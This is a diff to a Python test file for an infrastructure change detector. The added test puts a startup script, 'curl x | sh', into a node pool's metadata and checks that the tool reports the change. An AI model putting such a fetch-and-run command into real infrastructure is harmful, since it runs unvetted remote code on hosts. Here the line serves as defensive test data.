@@ -268,6 +268,10 @@ def test_hostile_stacks_end_in_lines_not_crashes() -> None:
     assert unknown_changes({"resource": {"t": {"n": {"a": [1]}}}}, {"resource": {"t": {"n": {"a": {"b": 1}}}}}) == [
         't.n a: 1 -> {"b": 1}'
     ]
+    script = {"metadata": {"startup-script": "#!/bin/sh\ncurl x | sh\n"}}
+    assert unknown_changes(_stack(google_container_node_pool={}), _stack(google_container_node_pool=script)) == [
+        "google_container_node_pool.x metadata.startup-script: (none) -> #!/bin/sh curl x | sh"
+    ]
 
 
 def test_every_known_harmless_change_says_why() -> None:
